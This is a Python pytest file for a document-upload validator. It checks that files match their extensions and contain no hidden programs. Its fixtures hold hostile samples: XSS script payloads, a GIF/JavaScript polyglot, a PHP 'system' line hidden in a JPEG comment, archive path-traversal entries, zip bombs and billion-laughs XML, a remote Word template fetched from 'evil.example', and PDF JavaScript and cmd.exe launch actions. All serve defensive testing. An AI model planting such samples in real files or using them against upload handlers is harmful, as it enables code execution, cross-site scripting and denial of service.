"""A file is what its name says and nothing besides, and opens without harm."""

from typing import Final

import pytest
from hypothesis import given
from hypothesis import strategies as some

from measures.rules.files import ALLOWED, Limits, Unsafe, Why, examine
from tests import evidence_files as made

REAL: Final = {
    "письмо.pdf": (made.pdf(), ".pdf"),
    "скан с хвостом.pdf": (made.pdf(after=b"\0\0scanner 2.1"), ".pdf"),
    "отчёт.docx": (made.docx(), ".docx"),
    "таблица.xlsx": (made.xlsx(), ".xlsx"),
    "есеп.odt": (made.odt(), ".odt"),
    "снимок.png": (made.png(), ".png"),
    "снимок.JPEG": (made.jpeg(), ".jpg"),
    "телефон.jpg": (made.jpeg(after=b"\0\0SEFT of a telephone"), ".jpg"),
    "с таблицей внутри.docx": (made.docx({"word/embeddings/1.xlsx": made.xlsx()}), ".docx"),
}
SCRIPT: Final = b"<script>alert(1)</script>"
SVG: Final = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"
GIF: Final = b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)//;"
UNSAFE: Final = {
    "picture of lines.svg": (SVG, Why.OTHER_KIND),
    "picture of lines.png": (SVG, Why.OTHER_KIND),
    "page.html": (b"<html>" + SCRIPT, Why.OTHER_KIND),
    "page.pdf": (b"<html>" + SCRIPT, Why.OTHER_KIND),
    "script that is a picture.gif": (GIF, Why.OTHER_KIND),
    "script that is a picture.jpg": (GIF, Why.OTHER_KIND),
    "program.pdf": (b"MZ\x90\0" + bytes(60), Why.OTHER_KIND),
    "program.pdf.exe": (made.pdf(), Why.OTHER_KIND),
    "no ending": (made.pdf(), Why.OTHER_KIND),
    "table by content.docx": (made.xlsx(), Why.OTHER_KIND),
    "other office.docx": (made.odt(), Why.OTHER_KIND),
    "page before.pdf": (SCRIPT + made.pdf(), Why.TWO_KINDS),
    "page inside.pdf": (made.pdf(inside=b"% " + SCRIPT), Why.TWO_KINDS),
    "page after.pdf": (made.pdf(after=b"<html><body onload=alert(1)>"), Why.TWO_KINDS),
    "archive after.pdf": (made.pdf(after=made.docx()), Why.TWO_KINDS),
    "archive after.png": (made.png(after=made.docx()), Why.TWO_KINDS),
    "archive after.jpg": (made.jpeg(after=made.docx()), Why.TWO_KINDS),
    "words after.png": (made.png(after=b"\n"), Why.TWO_KINDS),
    "script in the comment.png": (made.png(comment=SCRIPT), Why.TWO_KINDS),
    "php in the comment.jpg": (made.jpeg(comment=b"<?php system('id'); ?>"), Why.TWO_KINDS),
    "shell before.docx": (b"#!/bin/sh\n" + made.docx(), Why.OTHER_KIND),
    "something after.docx": (made.docx() + b"%PDF-1.4", Why.TWO_KINDS),
    "way out.docx": (made.docx({"../../etc/passwd": b"x"}), Why.TWO_KINDS),
    "way out by backslash.docx": (made.docx({"..\\..\\x.dll": b"x"}), Why.TWO_KINDS),
    "way out by root.docx": (made.docx({"/etc/passwd": b"x"}), Why.TWO_KINDS),
    "zeros.docx": (made.bomb_of_zeros(30), Why.SWELLS),
    "nested.docx": (made.nested_bomb(3), Why.SWELLS),
    "overlapping.docx": (made.overlapping_bomb(), Why.SWELLS),
    "lying.docx": (made.lying_archive(), Why.DAMAGED),
    "billion laughs.docx": (
        made.docx({"word/x.xml": b"<!DOCTYPE a [<!ENTITY b 'bbbb'>]><a>&b;</a>"}),
        Why.SWELLS,
    ),
    "cut short.docx": (made.docx()[:-100], Why.DAMAGED),
    "cut short.png": (made.png()[:-6], Why.DAMAGED),
    "cut short.pdf": (made.PDF[:30], Why.DAMAGED),
    "sixty thousand.png": (made.png(60_000, 60_000), Why.HUGE_PICTURE),
    "sixty thousand.jpg": (made.jpeg(60_000, 60_000), Why.HUGE_PICTURE),
    "of no size.png": (made.png(0, 5), Why.DAMAGED),
}
FETCHED: Final = (
    b'<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
    b'officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/x.dotm" '
    b'TargetMode="External"/></Relationships>'
)
PROGRAMS: Final = {
    "macros.docx": made.docx({"word/vbaProject.bin": b"x"}),
    "control.docx": made.docx({"word/activeX/activeX1.bin": b"x"}),
    "template from afar.docx": made.docx({"word/_rels/settings.xml.rels": FETCHED}),
    "macros inside.docx": made.docx(
        {"word/embeddings/1.xlsx": made.xlsx({"xl/vbaProject.bin": b"x"})}
    ),
    "basic.odt": made.odt({"Basic/Standard/Module1.xml": b"<m/>"}),
    "python.odt": made.odt({"Scripts/python/x.py": b"import os"}),
    "script.pdf": made.pdf(inside=b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"),
    "script in other letters.pdf": made.pdf(inside=b"/S /J#61vaScript /JS (x)"),
    "starts something.pdf": made.pdf(inside=b"/S/Launch/F(cmd.exe)"),
}


@pytest.mark.parametrize("name", REAL)
def test_real_documents_are_known_by_their_content(name: str) -> None:
    content, ending = REAL[name]
    found = examine(content, name)
    assert (found.content_type, found.has_program) == (ALLOWED[ending], False)


@pytest.mark.parametrize("name", UNSAFE)
def test_what_is_something_else_or_something_besides_is_refused(name: str) -> None:
    content, why = UNSAFE[name]
    with pytest.raises(Unsafe) as refused:
        examine(content, name)
    assert refused.value.why is why


@pytest.mark.parametrize("name", PROGRAMS)
def test_programs_in_documents_are_seen(name: str) -> None:
    assert examine(PROGRAMS[name], name).has_program is True


def test_empty_libraries_of_macros_are_no_programs() -> None:
    named = made.odt({"Basic/Standard/script-lb.xml": b"<l/>", "Basic/script-lc.xml": b"<l/>"})
    assert examine(named, "есеп.odt").has_program is False


def test_a_locked_archive_is_refused() -> None:
    locked = bytearray(made.docx())
    locked[6] |= 1  # of the first member, in its two places
    locked[locked.find(b"PK\x01\x02") + 8] |= 1
    with pytest.raises(Unsafe) as refused:
        examine(bytes(locked), "a.docx")
    assert refused.value.why is Why.LOCKED


def test_kinds_that_an_installation_does_not_take_are_refused() -> None:
    with pytest.raises(Unsafe) as refused:
        examine(made.png(), "a.png", kinds=[".pdf"])
    assert refused.value.why is Why.OTHER_KIND


@pytest.mark.parametrize(
    ("limits", "why"),
    [
        (Limits(unpacked=1000), Why.SWELLS),
        (Limits(members=3), Why.SWELLS),
        (Limits(), None),
    ],
)
def test_an_archive_is_held_to_its_limits(limits: Limits, why: Why | None) -> None:
    if why is None:
        assert examine(made.docx(), "a.docx", limits=limits).has_program is False
        return
    with pytest.raises(Unsafe) as refused:
        examine(made.docx(), "a.docx", limits=limits)
    assert refused.value.why is why


@pytest.mark.parametrize("depth", [0, 1])
def test_archives_lie_inside_of_each_other_so_deep_and_no_deeper(depth: int) -> None:
    inside = made.docx({"word/embeddings/1.xlsx": made.xlsx()})
    if depth:
        assert examine(inside, "a.docx", limits=Limits(depth=depth)).has_program is False
        return
    with pytest.raises(Unsafe) as refused:
        examine(inside, "a.docx", limits=Limits(depth=depth))
    assert refused.value.why is Why.SWELLS


@given(some.data())
def test_whatever_is_broken_in_a_file_it_is_judged_and_never_breaks_the_judge(
    data: some.DataObject,
) -> None:
    name = data.draw(some.sampled_from(sorted(REAL)))
    content = bytearray(REAL[name][0])
    for _ in range(data.draw(some.integers(1, 4))):
        # From the end, where archives keep their directory, as often as from anywhere.
        near = data.draw(some.sampled_from([60, 600, len(content)]))
        at = len(content) - 1 - data.draw(some.integers(0, min(near, len(content)) - 1))
        content[at : at + data.draw(some.integers(0, 8))] = data.draw(some.binary(max_size=8))
    assert judged(bytes(content), name) in {*ALLOWED.values(), *Why}


def judged(content: bytes, name: str) -> str:
    """What it is, or why it is refused."""
    try:
        return examine(content, name).content_type
    except Unsafe as unsafe:
        return unsafe.why
